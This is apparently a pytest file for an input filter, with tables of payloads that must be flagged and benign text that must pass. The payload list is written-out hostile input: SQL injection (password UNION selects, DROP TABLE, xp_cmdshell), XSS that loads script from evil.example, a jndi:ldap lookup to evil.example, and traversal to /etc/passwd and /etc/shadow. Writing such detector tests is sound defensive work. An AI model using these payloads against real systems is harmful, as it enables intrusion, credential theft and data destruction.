"""Free-text rules (``core.policy.inputs.check_text``): payloads flagged, prose left alone."""

from __future__ import annotations

import time

import pytest

from strongroom.core.policy.inputs import CATEGORIES, check_text

PAYLOADS: list[tuple[str, str]] = [
    # SQL
    ("sql", "' or 1=1 --"),
    ("sql", "' OR '1'='1"),
    ("sql", '" or "a"="a'),
    ("sql", "') or ('x'='x"),
    ("sql", "1 or 1=1"),
    ("sql", "admin'--"),
    ("sql", "admin' #"),
    ("sql", "1;--"),
    ("sql", "x' UNION SELECT username, password FROM users--"),
    ("sql", "1 union all select null,null"),
    ("sql", "1; DROP TABLE accounts"),
    ("sql", "'; truncate table audit; --"),
    ("sql", "1 /* comment */ or 2"),
    ("sql", "un/**/ion"),
    ("sql", "'; exec xp_cmdshell 'dir'"),
    ("sql", "1; EXEC master..xp_cmdshell 'ping 10.0.0.1'"),
    ("sql", "1' AND SLEEP(5)#"),
    ("sql", "1 and benchmark(5000000,md5(1))"),
    ("sql", "'; WAITFOR DELAY '0:0:5'--"),
    ("sql", "1; select pg_sleep(10)"),
    ("sql", "1; delete from users"),
    ("sql", "1; insert into users values ('x')"),
    ("sql", "1; update users set role = 'admin'"),
    ("sql", "' and 1=0 union select table_name from information_schema.tables"),
    ("sql", "%27%20or%201%3D1%20--%20"),  # percent-encoded
    ("sql", "%2527%2520or%25201%253D1"),  # double percent-encoding
    ("sql", "&#39; or 1=1 --"),  # HTML entity
    ("sql", "\uff07 or 1=1 --"),  # full-width apostrophe (NFKC)
    # script / HTML
    ("script", "<script>alert(1)</script>"),
    ("script", "<ScRiPt src=//evil.example/x.js>"),
    ("script", "</script><b>"),
    ("script", "javascript:alert(document.cookie)"),
    ("script", "JaVaScRiPt:void(0)"),
    ("script", "vbscript:msgbox(1)"),
    ("script", "<img src=x onerror=alert(1)>"),
    ("script", "<svg onload=alert(1)>"),
    ("script", "<svg/onload=alert(1)>"),
    ("script", "<iframe src=//evil.example></iframe>"),
    ("script", "<body onload=alert(1)>"),
    ("script", '" onmouseover="alert(1)'),
    ("script", "' autofocus onfocus='alert(1)"),
    ("script", "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="),
    ("script", "data:image/svg+xml,<svg></svg>"),
    ("script", "%3Cscript%3Ealert(1)%3C/script%3E"),
    ("script", "%253Cscript%253E"),
    ("script", "&lt;script&gt;alert(1)&lt;/script&gt;"),
    ("script", "&#x3C;script&#x3E;"),
    ("script", "&#60;svg onload=alert(1)&#62;"),
    ("script", "\uff1cscript\uff1ealert(1)"),  # full-width angle brackets
    # template
    ("template", "{{7*7}}"),
    ("template", "{{ config.items() }}"),
    ("template", "{% for x in range(9) %}"),
    ("template", "${jndi:ldap://evil.example/a}"),
    ("template", "${7*7}"),
    ("template", "#{7*7}"),
    ("template", "<%= system('id') %>"),
    ("template", "%7B%7B7*7%7D%7D"),
    ("template", "%24%7Bjndi:dns://x%7D"),
    ("template", "&#123;&#123;7*7&#125;&#125;"),
    ("template", "\uff5b\uff5b7*7\uff5d\uff5d"),  # full-width braces
    # path
    ("path", "../../etc/passwd"),
    ("path", "..\\..\\windows\\win.ini"),
    ("path", "/etc/shadow"),
    ("path", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("path", "c:/windows/system32"),
    ("path", "file:///etc/hosts"),
    ("path", "%2e%2e%2f%2e%2e%2fetc"),
    ("path", "..%2f..%2fboot.ini"),
    ("path", "%252e%252e%252f"),
    ("path", "%c0%ae%c0%ae/"),
    ("path", "report.pdf\x00.png"),
    ("path", "report.pdf%00.png"),
    ("path", "/proc/self/environ"),
    ("path", "\uff0e\uff0e/\uff0e\uff0e/"),  # full-width full stops
    # control characters
    ("control characters", "bell\x07"),
    ("control characters", "escape \x1b[31m red"),
    ("control characters", "back\x08space"),
    ("control characters", "vertical\x0btab"),
    ("control characters", "delete\x7f"),
    ("control characters", "c1 \x9b control"),
    ("control characters", "%1b[2J"),
]

BENIGN: list[str] = [
    "O'Brien",
    "rock & roll",
    "1/2",
    "a+b=c",
    "It's raining; let's go",
    "'yes' or 'no' is fine",
    "I need more sleep (8 hours at least)",
    "100% sure",
    "50%off",
    "Tom & Jerry",
    "The union selected a new leader",
    "Please help; delete from my account the old card",
    "Choose wisely; select one from the list",
    "Done; update pending",
    "one = two is false",
    "javascript: it's a language",
    "Caf\u00e9 \u2014 na\u00efve r\u00e9sum\u00e9",
    "\u65e5\u672c\u8a9e\u306e\u30c6\u30ad\u30b9\u30c8",
    "thumbs up \U0001f44d\U0001f3fd and a family \U0001f468\u200d\U0001f469\u200d\U0001f467",
    "https://example.com/a?b=1&c=2",
    "Hello\tworld\r\nsecond line\n",
    "Wait... what?",
    "x < y and y > z",
    "C# and C++",
    "#1 priority",
    "Rated '#1' by critics",
    "mother-in-law",
    "Q&A at 3:30 p.m.",
    "Price: $100 (about \u20ac92)",
    "a <= b",
    "see section 4.2/5",
    "email jane.doe@example.com",
    "{curly} braces and [square] ones",
    "costs $5 {approx}",
    "C:\\Users\\jane\\Documents",
    "I said -- no",
    "once upon a time, online",
    "",
]


def test_the_tables_are_as_large_as_promised() -> None:
    assert len(PAYLOADS) >= 40 and len(BENIGN) >= 20
    assert {category for category, _ in PAYLOADS} == set(CATEGORIES)


@pytest.mark.parametrize(("category", "payload"), PAYLOADS)
def test_payloads_are_flagged_with_their_category(category: str, payload: str) -> None:
    assert check_text(payload) == category


@pytest.mark.parametrize("text", BENIGN)
def test_ordinary_prose_passes(text: str) -> None:
    assert check_text(text) is None


def test_tab_newline_and_carriage_return_are_not_control_characters() -> None:
    assert check_text("a\tb\nc\r\nd") is None


def test_percent_decoding_stops_after_two_rounds() -> None:
    """Bounded normalisation: three layers of percent-encoding are not peeled (a documented
    limit), two are."""
    assert check_text("%25253Cscript%25253E") is None
    assert check_text("%253Cscript%253E") == "script"


def test_cost_stays_linear_on_adversarial_repetition() -> None:
    """Many openings without their closings (``/*``, ``<img``, quotes) must not make matching
    quadratic: 64 KiB of them is checked quickly."""
    for unit in ("/*", "<img ", "' ", "; ", "%", "&", "<a ", "..", "{"):
        text = (unit * (65536 // len(unit)))[:65536]
        started = time.perf_counter()
        check_text(text)
        assert time.perf_counter() - started < 1.0, unit


def test_triggers_are_lower_case() -> None:
    """Rules are gated by trigger substrings searched for in the lower-cased string: an
    upper-case trigger would never be found, silently disabling its rule."""
    from strongroom.core.policy import inputs

    assert all(t == t.lower() for t in inputs._TRIGGERS)
